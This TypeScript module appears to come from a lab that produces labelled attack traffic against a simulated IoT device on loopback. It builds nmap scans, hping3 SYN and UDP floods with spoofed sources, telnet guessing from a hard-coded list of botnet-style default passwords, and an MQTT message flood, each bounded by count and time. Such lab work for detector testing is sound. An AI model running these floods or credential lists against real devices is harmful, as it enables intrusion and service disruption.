import type { Writable } from 'node:stream';
import { Random } from '../src/util/random.js';
import { DEVICE_PORTS } from './devices.js';
import { tryLogins } from './login-client.js';
import { sleep, type ChildRegistry } from './processes.js';

/**
 * The attack phases, run one after another from the attacker address against the device. Every phase is
 * bounded twice: by its own count (ports, packets, attempts, messages) and by a time limit after which the
 * lab stops the tool. `--scale` shrinks the counts (never below a floor that still makes a visible attack).
 */
export interface AttackPhase {
  readonly name: string;
  readonly tool: string;
  readonly ports: string;
  /** The count the phase is bounded to (ports for scans, packets for floods, attempts, messages). */
  readonly bound: number;
  /** Human-readable command line for the ground truth. */
  readonly command: string;
  readonly timeLimitMs: number;
  /** Runs the phase to its end; resolves with the tool's exit code (null when it had to be stopped). */
  run(children: ChildRegistry): Promise<number | null>;
}

export interface AttackPlan {
  device: string;
  attacker: string;
  scale: number;
  seed: number;
}

const scaled = (n: number, scale: number, floor: number): number => Math.max(floor, Math.round(n * scale));

export function attackPhases(plan: AttackPlan): AttackPhase[] {
  const { device, attacker, scale } = plan;
  const timeLimitMs = Math.round(30_000 * scale + 10_000);
  // nmap and hping3 pick 127.0.0.1 as the source for a loopback route; -S/-a with -e/-I pin the attacker.
  const nmap = (name: string, type: string, ports: number, rate: number): AttackPhase =>
    tool(name, 'nmap', `1-${ports}`, ports, timeLimitMs, [
      type,
      '-Pn',
      '-n',
      '-e',
      'lo',
      '-S',
      attacker,
      '--max-retries',
      '1',
      '--max-rate',
      String(rate),
      '-p',
      `1-${ports}`,
      device,
    ]);
  const hping = (name: string, mode: string[], port: number, packets: number): AttackPhase =>
    tool(name, 'hping3', String(port), packets, timeLimitMs, [
      '-q',
      ...mode,
      '-p',
      String(port),
      '-c',
      String(packets),
      '-i',
      'u1000',
      '-a',
      attacker,
      '-I',
      'lo',
      device,
    ]);
  return [
    nmap('syn-scan', '-sS', scaled(1000, scale, 200), 300),
    nmap('connect-scan', '-sT', scaled(1000, scale, 200), 300),
    nmap('udp-scan', '-sU', scaled(200, scale, 60), 200),
    hping('syn-flood', ['-S'], DEVICE_PORTS.http, scaled(4000, scale, 800)),
    hping('udp-flood', ['--udp', '-d', '64'], DEVICE_PORTS.dns, scaled(4000, scale, 800)),
    credentialGuessing(plan, scaled(150, scale, 30), timeLimitMs),
    mqttFlood(plan, scaled(4000, scale, 800), timeLimitMs),
  ];
}

function tool(
  name: string,
  program: string,
  ports: string,
  bound: number,
  timeLimitMs: number,
  args: string[],
): AttackPhase {
  return {
    name,
    tool: program,
    ports,
    bound,
    command: [program, ...args].join(' '),
    timeLimitMs,
    async run(children) {
      return (await children.run(name, program, args, timeLimitMs)).code;
    },
  };
}

// Default credentials of the kind IoT botnets try first (the list is public knowledge, typed from memory).
const USERS = ['root', 'admin', 'support', 'user', 'guest', 'ubnt', 'service', 'supervisor'];
const PASSWORDS = [
  'xc3511',
  'vizxv',
  'admin',
  '888888',
  'xmhdipc',
  'default',
  'juantech',
  '123456',
  '54321',
  'support',
  'password',
  '12345',
  'user',
  'root',
  '1111',
  'smcadmin',
  '666666',
  'klv123',
  'ikwb',
  'dreambox',
  'realtek',
  '00000000',
  'anko',
  '7ujMko0admin',
];

/** Telnet credential guessing: `attempts` wrong pairs, three a connection, four connections at a time. */
function credentialGuessing(plan: AttackPlan, attempts: number, timeLimitMs: number): AttackPhase {
  const rng = new Random(plan.seed ^ 0x5eed);
  const pairs: Array<[string, string]> = [];
  for (let i = 0; i < attempts; i++)
    pairs.push([USERS[rng.int(USERS.length)], PASSWORDS[rng.int(PASSWORDS.length)]]);
  return {
    name: 'credential-guessing',
    tool: 'lab',
    ports: String(DEVICE_PORTS.login),
    bound: attempts,
    command: `lab login-client from ${plan.attacker}: ${attempts} default-credential attempts, 3 per connection, 4 connections in parallel, to ${plan.device}:${DEVICE_PORTS.login}`,
    timeLimitMs,
    async run() {
      const deadline = Date.now() + timeLimitMs;
      let next = 0;
      const worker = async (): Promise<void> => {
        while (next < pairs.length && Date.now() < deadline) {
          const batch = pairs.slice(next, next + 3);
          next += batch.length;
          await tryLogins(plan.attacker, plan.device, DEVICE_PORTS.login, batch);
          await sleep(300); // a bot's pace, so the phase lasts a few seconds at scale 1
        }
      };
      await Promise.all([worker(), worker(), worker(), worker()]);
      return next >= pairs.length ? 0 : null;
    },
  };
}

/**
 * MQTT publish flood: 16 sessions on the attacker address, four at a time, each pushing its share of
 * `messages` spoofed readings as fast as the broker takes them — many sessions, so a connection-level
 * detector sees more than one record of it.
 */
function mqttFlood(plan: AttackPlan, messages: number, timeLimitMs: number): AttackPhase {
  const sessions = 16;
  const perSession = Math.ceil(messages / sessions);
  const args = (i: number): string[] => [
    '-h',
    plan.device,
    '-p',
    String(DEVICE_PORTS.mqtt),
    '-A',
    plan.attacker,
    '-i',
    `flood-${i}`,
    '-t',
    'sensors/0/telemetry',
    '-l',
  ];
  return {
    name: 'mqtt-flood',
    tool: 'mosquitto_pub',
    ports: String(DEVICE_PORTS.mqtt),
    bound: perSession * sessions,
    command: `${sessions} x (mosquitto_pub ${args(0).join(' ')}) fed ${perSession} lines each, 4 at a time`,
    timeLimitMs,
    async run(children) {
      const deadline = Date.now() + timeLimitMs;
      const codes: Array<number | null> = [];
      let next = 0;
      const worker = async (): Promise<void> => {
        while (next < sessions && Date.now() < deadline) {
          const i = next++;
          const pub = children.start(`mqtt-flood-${i}`, 'mosquitto_pub', args(i), {
            stdio: ['pipe', 'ignore', 'ignore'],
          });
          const timer = setTimeout(() => void children.stop(pub), Math.max(0, deadline - Date.now()));
          const stdin = pub.child.stdin as Writable;
          stdin.on('error', () => undefined); // the broker or the time limit may cut it; the exit code says so
          const line = `${'{"sensor":0,"temperature":-999}'.padEnd(64, ' ')}\n`;
          stdin.end(line.repeat(perSession));
          codes.push((await pub.exited).code);
          clearTimeout(timer);
        }
      };
      await Promise.all([worker(), worker(), worker(), worker()]);
      if (codes.length < sessions) return null;
      return codes.find((c) => c !== 0) ?? 0;
    },
  };
}
